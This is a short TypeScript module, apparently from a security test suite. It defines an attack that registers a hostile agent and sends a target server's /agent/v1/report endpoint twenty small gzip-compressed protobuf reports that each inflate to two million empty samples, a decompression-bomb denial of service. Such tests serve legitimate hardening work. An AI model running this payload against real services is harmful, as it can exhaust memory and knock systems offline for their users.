import { gzipSync } from "node:zlib";
import type { Attack } from "../attack.ts";
import { countResponses, post } from "../responses.ts";
import { registerHostileAgent } from "../hostile-agent.ts";

const samples = 2_000_000;
const times = 20;

/** An agent sends small reports that inflate to millions of empty samples (field 1, length 0). */
export const inflatingReports: Attack = async (attacked) => {
  const key = await registerHostileAgent(attacked);
  const body = gzipSync(Buffer.alloc(samples * 2, Buffer.from([0x0a, 0x00])));
  const headers = { "content-type": "application/x-protobuf", "content-encoding": "gzip" };
  const responses = countResponses();
  for (let n = 0; n < times; n++) responses.add(await post(`${attacked.url}/agent/v1/report`, key, body, headers));
  return `${times} reports of ${body.length} bytes: ${responses.text()}`;
};
